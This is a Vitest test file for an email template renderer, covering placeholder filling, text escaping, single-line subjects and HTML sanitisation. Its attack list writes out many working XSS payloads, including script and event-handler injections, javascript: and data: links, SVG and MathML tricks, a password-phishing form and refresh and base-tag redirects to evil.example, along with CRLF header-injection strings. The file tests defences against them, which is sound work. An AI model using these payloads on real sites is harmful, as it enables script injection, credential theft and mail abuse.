import { describe, expect, it } from 'vitest'
import { cleanHtml, renderBody, renderSubject, unknownPlaceholders } from './render-template.ts'

describe('placeholders', () => {
  it('names unknown ones, each once', () => {
    const text = '{{USERNAME}} {{ WHAT }} {{WHAT}} {{username}} {{}} {{__proto__}}'
    expect(unknownPlaceholders(text, ['USERNAME'])).toEqual(['WHAT', 'username', '', '__proto__'])
  })

  it('fills in known ones, spaces around the name allowed', () => {
    expect(renderSubject('Hello {{ USERNAME }}', { USERNAME: 'ada' })).toBe('Hello ada')
  })

  it('never renders a placeholder without a value', () => {
    expect(() => renderSubject('Hello {{NAME}}', {})).toThrow('NAME')
    expect(() => renderBody('{{constructor}}', {})).toThrow('constructor')
  })

  it('does not fill in placeholders within a value', () => {
    expect(renderBody('<p>{{A}}</p>', { A: '{{B}}', B: 'secret' })).toBe('<p>{{B}}</p>')
  })

  it('writes values as text', () => {
    const body = renderBody('<p>{{A}}</p>', { A: '<b>"x" & \'y\'</b>\nnext' })
    expect(body).toBe('<p>&lt;b&gt;"x" &amp; \'y\'&lt;/b&gt;<br />next</p>')
  })

  it('inserts the announcement as sanitised HTML', () => {
    const body = renderBody('<div>{{ANNOUNCEMENT_BODY}}</div>', {
      ANNOUNCEMENT_BODY: '<p>Hi <strong>all</strong><script>alert(1)</script></p>',
    })
    expect(body).toBe('<div><p>Hi <strong>all</strong></p></div>')
  })

  it('allows no link with another scheme in a value', () => {
    expect(renderBody('<a href="{{A}}">x</a>', { A: 'javascript:alert(1)' })).toBe('<a>x</a>')
    expect(renderBody('<a href="{{A}}">x</a>', { A: 'https://a.example/?b=1&c=2' })).toBe(
      '<a href="https://a.example/?b=1&amp;c=2">x</a>',
    )
  })
})

describe('subject', () => {
  it.each([
    ['line break', 'Ada\r\nBcc: everybody@mail.example'],
    ['bare line feed', 'Ada\nBcc: everybody@mail.example'],
    ['bare return', 'Ada\rBcc: everybody@mail.example'],
    ['line separator', 'Ada\u2028Bcc: everybody@mail.example'],
    ['null and tab', 'Ada\u0000\tBcc: everybody@mail.example'],
    ['next line', 'Ada\u0085Bcc: everybody@mail.example'],
  ])('stays one line: %s', (_name, value) => {
    expect(renderSubject('From {{NAME}}', { NAME: value })).toBe('From Ada Bcc: everybody@mail.example')
  })

  it('stays short', () => {
    expect(renderSubject('{{NAME}}', { NAME: 'x'.repeat(5000) })).toHaveLength(200)
  })
})

/** Attacks that an admin, or somebody with an admin's session, may try to put into a mail. */
const attacks: [name: string, html: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script in mixed case', '<ScRiPt src=https://evil.example/x.js></sCrIpT>'],
  ['nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['event handler', '<img src="https://ok.example/a.png" onerror="alert(1)">'],
  ['event handler without quotes', '<p onclick=alert(1)>x</p>'],
  ['event handler after a slash', '<img/onerror=alert(1)/src=https://ok.example/a.png>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['javascript link with a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  [
    'math',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['frame', '<iframe src="https://evil.example"></iframe>'],
  ['frame with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object><embed src="x">'],
  ['form', '<form action="https://evil.example"><input name="password"><button>Go</button></form>'],
  ['style sheet', '<style>@import "https://evil.example/x.css";</style>'],
  ['style with a url', '<p style="background-image:url(javascript:alert(1))">x</p>'],
  ['style with an expression', '<p style="width:expression(alert(1))">x</p>'],
  ['style that covers the page', '<p style="position:fixed;top:0;left:0">x</p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base', '<base href="https://evil.example/">'],
  ['link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['unclosed tag', '<img src="https://ok.example/a.png" onerror="alert(1)"'],
  ['closing the body', '</div></body><script>alert(1)</script>'],
  ['protocol-relative picture', '<img src="//evil.example/pixel.png">'],
]

describe('sanitised HTML', () => {
  it.each(attacks)('is harmless: %s', (_name, attack) => {
    const clean = cleanHtml(attack)
    const tags = [...clean.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)]
    expect(tags.map(([, tag]) => tag)).not.toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^(script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|template|noscript)$/i,
        ),
      ]),
    )
    for (const [, , attributes = ''] of tags) {
      expect(attributes).not.toMatch(/\son\w+\s*=/i)
      for (const [, url] of attributes.matchAll(/\b(?:src|href)="([^"]*)"/gi))
        expect(url).toMatch(/^(https?:\/\/|mailto:|(?!\/\/)[^:]*$)/)
      expect(attributes).not.toMatch(/url\(|expression\(|position/i)
    }
    expect(clean).not.toContain('<!--')
  })

  it('keeps what a mail needs', () => {
    const html =
      '<h1>News</h1><p style="text-align:center">A <a href="https://a.example/">link</a>, <em>words</em></p><ul><li>one</li></ul><img src="https://a.example/p.png" alt="Chart" />'
    expect(cleanHtml(html)).toBe(html)
  })
})
